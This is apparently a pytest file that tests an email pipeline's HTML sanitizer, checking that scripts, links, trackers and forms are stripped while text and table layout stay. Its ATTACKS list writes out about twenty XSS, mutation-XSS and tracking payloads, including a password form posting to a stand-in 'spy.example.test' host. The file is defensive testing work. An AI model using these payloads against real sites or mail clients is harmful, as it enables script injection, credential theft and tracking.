"""The HTML of a letter becomes a page that can do nothing: what is seen stays, what acts goes."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.ingest.letter import read_letter
from pipeline.ingest.safe_page import page_of
from pipeline.settings.values import Limits

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=http://spy.example.test/x.gif onerror=alert(1)>",
    "<a href='javascript:alert(1)'>点这里</a>",
    "<a href='http://spy.example.test/'>点这里</a>",
    "<iframe src=http://spy.example.test></iframe>",
    "<form action=http://spy.example.test><input name=password><button>登录</button></form>",
    "<meta http-equiv=refresh content='0;url=http://spy.example.test/'>",
    "<base href=http://spy.example.test/>",
    "<link rel=stylesheet href=http://spy.example.test/a.css>",
    "<style>@import 'http://spy.example.test/a.css';</style>",
    "<p style=\"background:url(http://spy.example.test/)\">底色</p>",
    "<p style='position:fixed;display:none'>盖住</p>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<td background=http://spy.example.test/a.gif>格</td>",
    "<object data=http://spy.example.test></object><embed src=x>",
    "<video poster=http://spy.example.test/><source src=x></video>",
    "<p onclick=alert(1) onmouseover=alert(1)>移过来</p>",
]  # fmt: skip
_STYLES = {"text-align", "text-indent", "font-weight", "font-style", "text-decoration"}


class _Seen(HTMLParser):
    """The tags of a page with their attributes, and its words."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data


def seen(page: str) -> _Seen:
    parser = _Seen()
    parser.feed(page)
    return parser


def harmless(page: str) -> bool:
    """Whether nothing in a page could run, load or lead anywhere."""
    found = seen(page)
    acting = found.tags & {"script", "a", "img", "iframe", "form", "input", "style", "link", "meta", "base", "svg"}
    wrong = [name for name, _ in found.attributes if name not in {"style", "colspan", "rowspan", "align"}]
    told = [
        part.split(":")[0].strip() for name, value in found.attributes if name == "style" for part in value.split(";")
    ]
    return not acting and not wrong and set(told) - {""} <= _STYLES and not any("spy" in v for _, v in found.attributes)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_acts_is_taken_out_and_the_words_beside_it_stay(attack: str) -> None:
    page = page_of([f"<p>请<b>查收</b></p>{attack}"])
    assert page.startswith("<p>请<b>查收</b></p>")
    assert harmless(page)


def test_words_of_a_link_stay_without_their_address() -> None:
    assert seen(page_of([ATTACKS[3]])).words == "点这里"


def test_a_table_keeps_its_cells_and_a_line_its_place() -> None:
    source = "<table><tr><td colspan=2 width=9>标题</td></tr></table><p style='text-align: center; color: red'>中</p>"
    page = page_of([source])
    assert 'colspan="2"' in page
    assert "width" not in page
    assert 'style="text-align:center"' in page.replace(": ", ":")


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "<p>", "</p>", "<b", "文", "<!--", "-->", "&#106;"])))
def test_whatever_is_put_together_nothing_acts(pieces: list[str]) -> None:
    assert harmless(page_of(["".join(pieces)]))


@pytest.mark.parametrize("source", ["<div>" * 100_000, "<b><i>" * 600, "<font color=red>" * 1_000 + "字"])
def test_what_is_nested_without_end_is_not_shown_rather_than_waited_for(source: str) -> None:
    assert page_of([source]) == ""


def test_an_endless_page_is_cut() -> None:
    assert len(page_of(["<p>字</p>" * 200_000])) <= 500_000


def test_a_letter_gives_its_page_only_when_it_is_asked_for() -> None:
    raw = "From: a@b.test\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>正文<script>x</script></p>".encode()
    assert read_letter(raw, Limits(), lambda _: "0" * 64).page == ""
    assert read_letter(raw, Limits(), lambda _: "0" * 64, page=True).page == "<p>正文</p>"
